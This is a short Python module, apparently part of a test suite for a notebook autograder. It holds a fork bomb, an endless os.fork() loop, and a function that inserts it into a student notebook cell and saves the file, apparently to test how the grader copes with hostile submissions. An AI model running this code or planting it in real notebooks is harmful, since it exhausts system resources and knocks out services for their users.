"""A process forks without end, and so do all its children.

graded: 30
note: This cell was left out
"""

from __future__ import annotations

from pathlib import Path

from attacks.tools import insert, save
from nbformat import NotebookNode

SOURCE = """
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
"""


def make(folder: Path, release: NotebookNode, right: NotebookNode) -> None:
    insert(right, SOURCE, before="zero_pad")
    save(folder, right)
